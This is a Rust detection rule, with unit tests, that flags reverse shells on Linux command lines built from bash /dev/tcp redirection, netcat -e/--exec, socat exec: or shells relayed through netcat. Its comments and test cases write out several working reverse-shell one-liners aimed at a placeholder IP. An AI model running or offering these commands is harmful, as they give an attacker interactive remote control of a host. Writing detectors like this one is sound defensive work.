//! Reverse Shell via /dev/tcp, Netcat or Socat.
//!
//! A reverse shell wires a shell's standard input and output to a network
//! socket, so whoever listens at the other end types the commands. It is the
//! first thing an attacker runs after code execution on a Linux host
//! (ATT&CK T1059.004 Unix Shell, over T1071 Application Layer Protocol).
//!
//! The rule fires on a command line that
//!
//! * names bash's `/dev/tcp/` or `/dev/udp/` socket files *and* attaches a
//!   shell to them: an interactive shell (`bash -i >& /dev/tcp/…`), standard
//!   input duplicated from the socket (`0>&1`, `0<&5`, `0</dev/tcp/…`), a
//!   shell reading its commands from a descriptor (`sh <&196`), or a
//!   `while read line; do $line` loop (`exec 5<>/dev/tcp/…; cat <&5 | …`);
//! * runs netcat with a shell to execute (`nc -e /bin/sh`, `ncat --exec
//!   bash`, `ncat --sh-exec "bash -i"`, `nc -c sh`);
//! * runs socat with an `exec:`/`system:` address that starts a shell and a
//!   network address (`socat tcp:…:4444 exec:'bash -li',pty`);
//! * relays a shell through a network client: an interactive shell together
//!   with netcat, telnet or `openssl s_client` (the `mkfifo` shells), or
//!   netcat piped straight into a shell.
//!
//! Deliberately not firing: port probes and HTTP health checks over
//! `/dev/tcp` (`echo > /dev/tcp/db/5432`, `exec 3<>/dev/tcp/…; cat <&3`) —
//! they open a socket but attach no shell — and netcat or socat executing
//! anything other than a shell (`ncat --sh-exec "ncat host 80"` proxies).
//! Reverse shells written in Python, Perl or PHP are out of scope.

use dac_rule_sdk::prelude::*;
use dac_rule_sdk::shell::{all_stages, basename, is_shell, pipelines, program, short_flags, stages, words};

dac_rule_sdk::rule! {
    name: "Reverse Shell via /dev/tcp, Netcat or Socat",
    uuid: "69f6cdfe-a457-4a76-aaac-c8edd1417957",
    severity: Critical,
    description: "A command line attaches a shell to a network socket: bash /dev/tcp or /dev/udp redirection, netcat -e/--exec, socat exec: or a shell relayed through netcat.",
    tags: [
        "attack.execution",
        "attack.t1059.004",
        "attack.command-and-control",
        "attack.t1071",
    ],
    prefilter: {
        fields: ["command_line"],
        literals: ["/dev/tcp/", "/dev/udp/", "nc", "netcat", "socat", "telnet", "s_client"]
    },
    evaluate: reverse_shell,
}

fn reverse_shell(event: &Event) -> Option<Finding> {
    let command_line = event.text("command_line")?;
    let reason = dev_socket_shell(&command_line)
        .or_else(|| netcat_exec(&command_line))
        .or_else(|| socat_exec(&command_line))
        .or_else(|| relayed_shell(&command_line))?;
    Some(Finding::new(reason).matched("command_line", command_line))
}

/// A shell attached to a bash `/dev/tcp/` or `/dev/udp/` socket.
fn dev_socket_shell(command_line: &str) -> Option<&'static str> {
    contains_any(command_line, &["/dev/tcp/", "/dev/udp/"])?;
    if has_interactive_shell(command_line) {
        Some("interactive shell redirected to a /dev/tcp or /dev/udp socket")
    } else if redirects_stdin(command_line) {
        Some("standard input redirected while a /dev/tcp or /dev/udp socket is open")
    } else if all_stages(command_line).any(shell_reads_descriptor) {
        Some("shell reads its commands from a /dev/tcp or /dev/udp socket descriptor")
    } else if read_loop_executes(command_line) {
        Some("lines read from a /dev/tcp or /dev/udp socket are executed")
    } else {
        None
    }
}

/// Netcat told to execute a shell for its peer.
fn netcat_exec(command_line: &str) -> Option<&'static str> {
    all_stages(command_line)
        .any(|stage| {
            let words = words(stage);
            let Some(at) = words.iter().position(|word| is_netcat(word)) else {
                return false;
            };
            let args = &words[at + 1..];
            args.iter().enumerate().any(|(index, arg)| {
                let (option, value) = match arg.split_once('=') {
                    Some((option, value)) if !value.is_empty() => (option, Some(value)),
                    Some((option, _)) => (option, args.get(index + 1).copied()),
                    None => (*arg, args.get(index + 1).copied()),
                };
                is_exec_option(option) && value.is_some_and(is_shell)
            })
        })
        .then_some("netcat executes a shell for its network peer")
}

/// Socat connecting a network address to a shell.
fn socat_exec(command_line: &str) -> Option<&'static str> {
    all_stages(command_line)
        .any(|stage| {
            if !words(stage).iter().any(|word| basename(word) == "socat") {
                return false;
            }
            let stage = stage.to_ascii_lowercase();
            let network = contains_any(&stage, &["tcp", "udp", "ssl", "sctp"]).is_some();
            let runs_shell = ["exec:", "system:"].iter().any(|address| {
                stage.match_indices(address).any(|(at, _)| {
                    let program = stage[at + address.len()..]
                        .trim_start_matches(|c: char| c.is_whitespace() || c == '\'' || c == '"')
                        .split(|c: char| c.is_whitespace() || matches!(c, ',' | '\'' | '"' | '!'))
                        .next()
                        .unwrap_or("");
                    is_shell(program)
                })
            });
            network && runs_shell
        })
        .then_some("socat connects a network address to a shell")
}

/// A shell relayed through a network client: an interactive shell alongside
/// netcat, telnet or `openssl s_client`, or netcat piped into a shell.
fn relayed_shell(command_line: &str) -> Option<&'static str> {
    let client = all_stages(command_line).any(|stage| {
        words(stage).iter().any(|word| is_netcat(word) || basename(word) == "telnet" || *word == "s_client")
    });
    if client && has_interactive_shell(command_line) {
        return Some("interactive shell relayed through a network client");
    }
    pipelines(command_line)
        .any(|pipeline| {
            let mut netcat = false;
            stages(pipeline).any(|stage| {
                let words = words(stage);
                let program = program(&words).map(|(_, program)| program);
                let fires = netcat && program.is_some_and(is_shell);
                netcat |= program.is_some_and(is_netcat);
                fires
            })
        })
        .then_some("netcat output piped into a shell")
}

/// A shell started with `-i` (alone or in a cluster such as `-li`).
fn has_interactive_shell(command_line: &str) -> bool {
    all_stages(command_line).any(|stage| {
        let words = words(stage);
        words.iter().enumerate().any(|(at, word)| {
            is_shell(word)
                && words[at + 1..]
                    .iter()
                    .take_while(|option| option.starts_with('-'))
                    .any(|option| short_flags(option).is_some_and(|flags| flags.contains('i')))
        })
    })
}

/// A redirection of file descriptor 0: `0>&1`, `0<&5`, `0</dev/tcp/…`.
fn redirects_stdin(command_line: &str) -> bool {
    let bytes = command_line.as_bytes();
    bytes.iter().enumerate().any(|(at, &byte)| {
        let starts_word = at == 0 || bytes[at - 1].is_ascii_whitespace() || b";&|({".contains(&bytes[at - 1]);
        let rest = &bytes[at + 1..];
        byte == b'0' && starts_word && (rest.starts_with(b"<") || rest.starts_with(b">&"))
    })
}

/// A shell whose input is a duplicated descriptor: `sh <&196`. (`program`
/// looks through `sh -c`, so `bash -c 'cat <&3'` is `cat`'s.)
fn shell_reads_descriptor(stage: &str) -> bool {
    program(&words(stage)).is_some_and(|(_, program)| is_shell(program)) && contains(stage, "<&")
}

/// A `while read line; do $line; done` loop that executes what it reads.
fn read_loop_executes(command_line: &str) -> bool {
    contains(command_line, "while read")
        && all_stages(command_line).any(|stage| {
            let words = words(stage);
            words.first() == Some(&"do") && words.get(1).is_some_and(|word| word.starts_with('$') || *word == "eval")
        })
}

fn is_exec_option(option: &str) -> bool {
    matches!(option, "--exec" | "--sh-exec")
        || short_flags(option).is_some_and(|flags| flags.ends_with('e') || flags.ends_with('c'))
}

fn is_netcat(word: &str) -> bool {
    let name = basename(word);
    matches!(name, "nc" | "ncat" | "netcat") || name.starts_with("nc.") || name.starts_with("netcat.")
}

dac_rule_sdk::fixture_tests!(DetectionRule);

#[cfg(test)]
mod tests {
    use super::*;
    use dac_rule_sdk::testing::evaluate_command_line;

    fn fires(command_line: &str) -> bool {
        !evaluate_command_line::<DetectionRule>(command_line).is_empty()
    }

    #[test]
    fn dev_tcp_needs_an_attached_shell() {
        assert!(fires("/bin/bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"));
        assert!(fires(
            "/bin/sh -c exec 5<>/dev/tcp/203.0.113.7/4444;cat <&5 | while read line; do $line 2>&5 >&5; done"
        ));
        assert!(fires("/bin/sh -c 0<&196;exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196"));
        assert!(fires("/bin/bash -c /bin/bash -l > /dev/tcp/203.0.113.7/4444 0<&1 2>&1"));
        assert!(!fires("/bin/bash -c echo > /dev/tcp/10.0.2.12/5432 && echo open"));
        assert!(!fires("/bin/bash -c cat < /dev/null > /dev/tcp/127.0.0.1/22"));
        assert!(!fires("/bin/bash -c cat <&3 3<>/dev/tcp/127.0.0.1/80"));
        assert!(!fires("/bin/bash -i"));
    }

    #[test]
    fn netcat_and_socat_must_run_a_shell() {
        assert!(fires("/usr/bin/nc -e /bin/sh 203.0.113.7 4444"));
        assert!(fires("/usr/bin/nc 203.0.113.7 4444 -nve /bin/bash"));
        assert!(fires("/usr/bin/ncat 203.0.113.7 4444 --exec=/bin/bash"));
        assert!(fires("/usr/bin/nc.traditional -c bash 203.0.113.7 4444"));
        assert!(fires("/bin/sh -c nc 203.0.113.7 4444 | /bin/sh | nc 203.0.113.7 4445"));
        assert!(!fires("/usr/bin/ncat -l 2000 --sh-exec ncat example.org 80"));
        assert!(!fires("/usr/bin/nc -zv 10.0.2.12 5432"));
        assert!(fires("/usr/bin/socat TCP:203.0.113.7:4444 EXEC:/bin/sh"));
        assert!(!fires("/usr/bin/socat TCP-LISTEN:8080,fork EXEC:/usr/local/bin/handler"));
        assert!(!fires("/usr/bin/socat file:`tty`,raw,echo=0 tcp-listen:4444"));
    }

    #[test]
    fn findings_carry_the_command_line() {
        let event = Event::from_json(r#"{"command_line":"/usr/bin/nc -e /bin/sh 203.0.113.7 4444"}"#);
        let findings = DetectionRule::evaluate(&event);
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].matched[0].path, "command_line");
        assert_eq!(findings[0].message, "netcat executes a shell for its network peer");
    }
}
